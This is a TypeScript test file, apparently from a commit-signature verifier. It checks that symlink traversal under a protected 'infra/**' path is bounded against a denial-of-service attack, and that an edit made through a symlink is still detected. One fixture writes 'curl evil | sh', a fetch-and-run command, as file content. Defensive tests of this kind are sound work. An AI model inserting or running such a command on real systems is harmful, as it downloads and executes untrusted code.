// The cost of following symlinks in protected paths. Every commit's trees are searched for the
// symlinks under a protected base and each one's trail is followed again, so a pusher who commits
// 20,000 symlinks under infra/ and then a run of small commits made one verification take minutes
// per hundred commits (hours for a full range): unsigned commits, judged for protected paths before
// their signature. The work is now bounded per verification (MAX_LINK_STEPS, TOO_LARGE beyond it),
// and a changed path is compared with a trail through an index, not against every changed path.
// Here the same attack, scaled down, meets a small bound (the default is MAX_LINK_STEPS).
import assert from 'node:assert/strict';
import { symlinkSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import picomatch from 'picomatch';
import { isSathosError, type ObjectReader } from '@sathos/core';
import { openGitRepository } from '@sathos/node';
import { TreeStore } from '../../packages/core/src/identity/commits/git/tree.js';
import {
  ProtectedPathJudge,
  type CommitTrees,
} from '../../packages/core/src/identity/commits/paths.js';
import type { ProtectedSet } from '../../packages/core/src/identity/commits/signers.js';
import { TestRepo } from './repo-builder.js';

const LINKS = 300;

const INFRA: ProtectedSet = {
  name: 'commits.protectedPaths[0]',
  allowedSigners: [],
  pgpKeys: [],
  gitsign: [],
  paths: ['infra/**'],
  matches: picomatch(['infra/**'], { dot: true, nocase: true }),
};

describe('symlinks under a protected base, commit after commit', () => {
  let repo: TestRepo;
  let reader: ObjectReader;
  /** Each small commit after the symlinks, with its parent's tree. */
  const commits: CommitTrees[] = [];

  before(() => {
    repo = TestRepo.create();
    mkdirSync(join(repo.dir, 'infra'));
    for (let i = 0; i < LINKS; i++)
      symlinkSync(`../scripts/s${i}.sh`, join(repo.dir, 'infra', `l${i}`));
    repo.git(['add', 'infra']);
    repo.commit({ signing: { none: true }, files: { 'scripts/s0.sh': 'echo 0\n' } });
    for (let i = 0; i < 10; i++) {
      const parent = repo.git(['rev-parse', 'HEAD^{tree}']);
      repo.commit({ signing: { none: true }, files: { 'README.md': `${i}\n` } });
      commits.push({ tree: repo.git(['rev-parse', 'HEAD^{tree}']), parentTrees: [parent] });
    }
    reader = openGitRepository(repo.dir).openReader();
  });
  after(async () => {
    await reader.close();
    repo.dispose();
  });

  it('judges the commits while the work fits the bound, and the edit through a symlink still counts', async () => {
    const judge = new ProtectedPathJudge(new TreeStore(reader), [INFRA], 100 * LINKS);
    for (const commit of commits) assert.deepEqual(await judge.touched(commit), []);
    const parent = repo.git(['rev-parse', 'HEAD^{tree}']);
    repo.commit({ signing: { none: true }, files: { 'scripts/s0.sh': 'curl evil | sh\n' } });
    const edit = { tree: repo.git(['rev-parse', 'HEAD^{tree}']), parentTrees: [parent] };
    assert.deepEqual(await judge.touched(edit), [INFRA]);
  });

  it('refuses the range with TOO_LARGE once the symlink work passes the bound', async () => {
    const judge = new ProtectedPathJudge(new TreeStore(reader), [INFRA], 4 * LINKS);
    await assert.rejects(
      (async () => {
        for (const commit of commits) await judge.touched(commit);
      })(),
      (error: unknown) =>
        isSathosError(error) &&
        error.code === 'TOO_LARGE' &&
        /symlinks of protected paths/.test(error.message),
    );
  });
});
